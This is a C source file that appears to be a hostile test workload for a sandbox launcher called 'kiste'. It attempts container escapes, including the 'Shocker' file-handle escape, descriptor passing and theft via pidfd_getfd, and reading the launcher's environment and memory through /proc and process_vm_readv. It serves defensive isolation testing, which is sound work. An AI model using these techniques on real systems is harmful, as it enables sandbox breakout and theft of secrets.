// SPDX-License-Identifier: GPL-2.0
// attack_esc.c - escape attempts: paths, inherited and passed descriptors, file handles, the launcher's memory.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

/* "LABEL: <first line of fd's content>" or "LABEL: EXXX". */
static void show_fd(const char *label, int fd)
{
	char buf[256];
	ssize_t n;

	if (fd < 0) {
		printf("%s: %s\n", label, ename(errno));
		return;
	}
	/* from the start: a stolen or inherited description may have been read already */
	n = pread(fd, buf, sizeof(buf) - 1, 0);
	if (n < 0 && (errno == ESPIPE || errno == EINVAL))
		n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		printf("%s: read %s\n", label, ename(errno));
	} else {
		buf[n] = 0;
		buf[strcspn(buf, "\n")] = 0;
		printf("%s: %s\n", label, buf);
	}
	close(fd);
}

int cmd_open(int argc, char **argv)
{
	char label[4200];
	int i;

	for (i = 0; i < argc; i++) {
		snprintf(label, sizeof(label), "open %s", argv[i]);
		show_fd(label, open(argv[i], O_RDONLY));
	}
	return 0;
}

/* A descriptor the caller left open: read it, and what lies beside it. */
int cmd_fdread(int argc, char **argv)
{
	int fd;

	if (argc < 2)
		return 2;
	fd = atoi(argv[0]);
	show_fd("fdread openat", openat(fd, argv[1], O_RDONLY));
	show_fd("fdread dup", dup(fd));
	return 0;
}

/* The handle of PATH as "TYPE:HEX" (natively: what an attacker would guess or leak). */
int cmd_mkhandle(int argc, char **argv)
{
	struct { struct file_handle h; unsigned char b[128]; } fh = { .h.handle_bytes = 128 };
	int mnt, i;

	if (argc < 1)
		return 2;
	if (name_to_handle_at(AT_FDCWD, argv[0], &fh.h, &mnt, 0) < 0) {
		printf("handle=%s\n", ename(errno));
		return 1;
	}
	printf("handle=%d:", fh.h.handle_type);
	for (i = 0; i < (int)fh.h.handle_bytes; i++)
		printf("%02x", fh.b[i]);
	printf("\n");
	return 0;
}

/* open_by_handle_at from inside, then NAME beside what it opened (the "Shocker" escape). */
int cmd_handle(int argc, char **argv)
{
	struct { struct file_handle h; unsigned char b[128]; } fh = { 0 };
	const char *hex;
	int mfd, dfd, i;

	if (argc < 3 || !(hex = strchr(argv[1], ':')))
		return 2;
	fh.h.handle_type = atoi(argv[1]);
	for (hex++, i = 0; hex[0] && hex[1] && i < 128; hex += 2, i++)
		sscanf(hex, "%2hhx", &fh.b[i]);
	fh.h.handle_bytes = i;
	mfd = open(argv[0], O_RDONLY | O_DIRECTORY);
	dfd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY);
	say("open_by_handle_at", dfd);
	if (dfd >= 0)
		show_fd("handle openat", openat(dfd, argv[2], O_RDONLY));
	return 0;
}

/* Host side: hands FILE's descriptor to whoever connects to SOCKET (one client, 30 s at most). */
int cmd_fdserve(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char c = 'x';
	struct iovec iov = { &c, 1 };
	union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(int))]; } u;
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.b,
			    .msg_controllen = sizeof(u.b) };
	int s, c_fd, fd;

	if (argc < 2)
		return 2;
	fd = open(argv[1], O_RDONLY);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[0]);
	unlink(argv[0]);
	if (fd < 0 || s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    chmod(argv[0], 0777) < 0 || listen(s, 1) < 0) {
		printf("fdserve=%s\n", ename(errno));
		return 1;
	}
	printf("fdserve=listening\n");
	fflush(stdout);
	alarm(30);
	c_fd = accept(s, NULL, NULL);
	if (c_fd < 0)
		return 1;
	u.h.cmsg_level = SOL_SOCKET;
	u.h.cmsg_type = SCM_RIGHTS;
	u.h.cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(&u.h), &fd, sizeof(int));
	say("fdserve sendmsg", sendmsg(c_fd, &m, 0));
	return 0;
}

/* Workload side: connects to a host socket in its root and reads the descriptor it is handed. */
int cmd_scm(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char c;
	struct iovec iov = { &c, 1 };
	union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(int))]; } u;
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.b,
			    .msg_controllen = sizeof(u.b) };
	struct cmsghdr *h;
	int s, fd;

	if (argc < 1)
		return 2;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[0]);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	say("scm socket", s);
	if (s < 0)
		return 0;
	say("scm connect", connect(s, (struct sockaddr *)&sa, sizeof(sa)));
	if (recvmsg(s, &m, 0) < 0) {
		printf("scm recvmsg=%s\n", ename(errno));
		return 0;
	}
	h = CMSG_FIRSTHDR(&m);
	if (!h || h->cmsg_type != SCM_RIGHTS) {
		printf("scm: no descriptor\n");
		return 0;
	}
	memcpy(&fd, CMSG_DATA(h), sizeof(int));
	show_fd("scm passed", fd);
	return 0;
}

/* pidfd_open on another process, then pidfd_getfd of its descriptor FD (read if a regular file). */
int cmd_pidfd(int argc, char **argv)
{
	struct stat st;
	long pfd, fd;

	if (argc < 2)
		return 2;
	pfd = raw6(SYS_pidfd_open, atol(argv[0]), 0, 0, 0, 0, 0);
	say_raw("pidfd_open", pfd);
	if (pfd < 0)
		return 0;
	fd = raw6(SYS_pidfd_getfd, pfd, atol(argv[1]), 0, 0, 0, 0);
	say_raw("pidfd_getfd", fd);
	if (fd >= 0 && fstat((int)fd, &st) == 0 && S_ISREG(st.st_mode))
		show_fd("pidfd stolen", (int)fd);
	return 0;
}

/* The launcher's /proc files, memory, and process_vm_readv of it: is the canary there? */
int cmd_launcher(int argc, char **argv)
{
	static const char *const files[] = { "environ", "cmdline", "mem" };
	char canary[256], path[64], buf[4096];
	struct iovec l = { buf, sizeof(buf) }, r = { NULL, sizeof(buf) };
	unsigned long s = 0, e = 0;
	FILE *f;
	size_t i;

	if (argc < 2)
		return 2;
	unshift(canary, argv[1], sizeof(canary));
	for (i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", argv[0], files[i]);
		switch (file_has(path, canary, 1 << 20)) {
		case 1: printf("launcher %s=CANARY\n", files[i]); break;
		case 0: printf("launcher %s=readable, no canary\n", files[i]); break;
		default: printf("launcher %s=%s\n", files[i], ename(errno));
		}
	}
	/* Its stack, where the environment lives: through /proc/PID/mem and process_vm_readv. */
	snprintf(path, sizeof(path), "/proc/%s/maps", argv[0]);
	f = fopen(path, "r");
	while (f && fgets(buf, sizeof(buf), f))
		if (strstr(buf, "[stack]"))
			sscanf(buf, "%lx-%lx", &s, &e);
	if (f)
		fclose(f);
	printf("launcher maps=%s\n", s ? "stack found" : ename(errno));
	snprintf(path, sizeof(path), "/proc/%s/mem", argv[0]);
	{
		int fd = open(path, O_RDONLY);
		int hit = 0;
		unsigned long a;

		say("launcher mem open", fd);
		for (a = s; fd >= 0 && a < e; a += sizeof(buf))
			if (pread(fd, buf, sizeof(buf), (off_t)a) > 0 && mem_has(buf, sizeof(buf), canary))
				hit = 1;
		if (fd >= 0)
			printf("launcher mem=%s\n", hit ? "CANARY" : "no canary");
	}
	r.iov_base = (void *)(s ? e - sizeof(buf) : 0x400000);
	{
		long n = raw6(SYS_process_vm_readv, atol(argv[0]), (long)&l, 1, (long)&r, 1, 0);

		say_raw("launcher process_vm_readv", n);
		if (n > 0 && mem_has(buf, (size_t)n, canary))
			printf("launcher process_vm_readv=CANARY\n");
	}
	/* PTRACE_SEIZE, not ATTACH: it never stops the process (the caller's shell, natively) */
	{
		long r = raw6(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, atol(argv[0]), 0, 0, 0, 0);

		say_raw("launcher ptrace_seize", r);
		if (r == 0)
			raw6(SYS_ptrace, 17 /* PTRACE_DETACH */, atol(argv[0]), 0, 0, 0, 0);
	}
	return 0;
}

/*
 * Every readable mapping of this process: does it hold the canary (from the
 * launcher's environment) or a string only kiste holds?  The needles are
 * built at run time in one buffer, which is the one place they may be.
 */
int cmd_memscan(int argc, char **argv)
{
	/* "Usage: kiste run" and "KISTE_HOSTILE_CANARY=", shifted by one */
	static const char *const shifted[] = { NULL, "Vtbhf;!ljtuf!svo", "LJTUF`IPTUJMF`DBOBSZ>" };
	char *needle[3], line[512], perm[8];
	unsigned long s, e, scanned = 0;
	size_t i;
	FILE *f;
	int found = 0;

	if (argc < 1)
		return 2;
	for (i = 0; i < 3; i++) {
		needle[i] = malloc(256);
		unshift(needle[i], i ? shifted[i] : argv[0], 256);
	}
	f = fopen("/proc/self/maps", "r");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lx-%lx %7s", &s, &e, perm) != 3 || perm[0] != 'r' ||
		    strstr(line, "[vvar") || strstr(line, "[vsyscall]"))
			continue;
		scanned += e - s;
		for (i = 0; i < 3; i++) {
			const char *p = (const char *)s, *hit;
			size_t left = e - s, n = strlen(needle[i]);

			while ((hit = memmem(p, left, needle[i], n))) {
				if (hit != needle[i]) {
					printf("memscan: needle %zu at %p in %s", i, (void *)hit, line);
					found++;
					break;
				}
				left -= hit + 1 - p;
				p = hit + 1;
			}
		}
	}
	if (f)
		fclose(f);
	printf("memscan=%s (%lu KiB scanned)\n", found ? "FOUND" : "clean", scanned >> 10);
	return 0;
}

int cmd_creat(int argc, char **argv)
{
	int fd;

	if (argc < 1)
		return 2;
	fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd >= 0 && write(fd, "hostile\n", 8) != 8)
		fd = -1;
	say("creat", fd);
	return 0;
}
